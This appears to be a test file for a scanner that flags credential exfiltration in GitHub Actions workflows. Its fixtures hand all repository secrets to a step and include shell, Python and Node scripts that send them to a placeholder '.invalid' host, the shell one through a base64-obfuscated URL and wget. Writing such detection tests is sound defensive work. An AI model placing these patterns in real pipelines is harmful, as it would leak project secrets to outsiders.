"""A CI step's ``env:`` reaches the bundled shell script the step runs: the secrets it is given are the
script's variables. Hosts are ``.invalid``; nothing runs."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors

WORKFLOW = (
    "name: docs\n"
    "on: [push]\n"
    "jobs:\n"
    "  site:\n"
    "    runs-on: ubuntu-latest\n"
    "    steps:\n"
    "      - uses: actions/checkout@v4\n"
    "      - name: Usage stats\n"
    "        env:\n"
    "          STATE: ${{ toJSON(secrets) }}\n"
    "        run: sh ./tools/stats.sh\n"
)

SENDER = (
    "#!/bin/sh\n"
    "target=$(echo 'aHR0cHM6Ly91c2FnZS5kb2NzLXN0YXRzLmludmFsaWQvaW4=' | base64 -d)\n"
    'wget -q -O- --post-data="$(printf %s "$STATE" | xz | base64)" "$target"\n'
)


def test_a_script_sending_the_secrets_its_step_hands_it_is_exfiltration(tmp_path: Path) -> None:
    errors = scan_errors(tmp_path, {".github/workflows/docs.yml": WORKFLOW, "tools/stats.sh": SENDER})
    assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in errors)


def test_a_named_secret_handed_to_a_sending_script_through_a_job_env(tmp_path: Path) -> None:
    workflow = WORKFLOW.replace("        env:\n          STATE: ${{ toJSON(secrets) }}\n", "").replace(
        "    runs-on: ubuntu-latest\n",
        "    runs-on: ubuntu-latest\n    env:\n      STATE: ${{ toJSON(secrets) }}\n",
    )
    errors = scan_errors(tmp_path, {".github/workflows/docs.yml": workflow, "tools/stats.sh": SENDER})
    assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in errors)


def test_the_script_without_the_secrets_in_its_step_is_quiet(tmp_path: Path) -> None:
    workflow = WORKFLOW.replace("${{ toJSON(secrets) }}", "${{ github.sha }}")
    assert not scan_errors(tmp_path, {".github/workflows/docs.yml": workflow, "tools/stats.sh": SENDER})


def test_a_script_not_using_what_it_is_handed_is_quiet(tmp_path: Path) -> None:
    sender = SENDER.replace('"$STATE"', '"$GITHUB_SHA"')
    assert not scan_errors(tmp_path, {".github/workflows/docs.yml": WORKFLOW, "tools/stats.sh": sender})


PYTHON_SENDER = (
    "import json, os, urllib.request\n"
    "payload = json.dumps({'ctx': os.environ.get('STATE', '')}).encode()\n"
    "urllib.request.urlopen(urllib.request.Request('https://usage.docs-stats.invalid/in', data=payload))\n"
)


def test_a_python_script_sending_what_its_step_hands_it_is_exfiltration(tmp_path: Path) -> None:
    workflow = WORKFLOW.replace("sh ./tools/stats.sh", "python3 tools/stats.py")
    errors = scan_errors(tmp_path, {".github/workflows/docs.yml": workflow, "tools/stats.py": PYTHON_SENDER})
    assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in errors)


def test_a_python_script_given_only_the_commit_is_quiet(tmp_path: Path) -> None:
    workflow = WORKFLOW.replace("sh ./tools/stats.sh", "python3 tools/stats.py").replace(
        "${{ toJSON(secrets) }}", "${{ github.sha }}"
    )
    assert not scan_errors(tmp_path, {".github/workflows/docs.yml": workflow, "tools/stats.py": PYTHON_SENDER})


def test_a_node_script_posting_what_its_step_hands_it_is_exfiltration(tmp_path: Path) -> None:
    workflow = WORKFLOW.replace("sh ./tools/stats.sh", "node tools/stats.mjs")
    script = (
        "const blob = Buffer.from(process.env.STATE || '').toString('base64');\n"
        "await fetch('https://usage.docs-stats.invalid/in', { method: 'POST', body: blob });\n"
    )
    errors = scan_errors(tmp_path, {".github/workflows/docs.yml": workflow, "tools/stats.mjs": script})
    assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in errors)
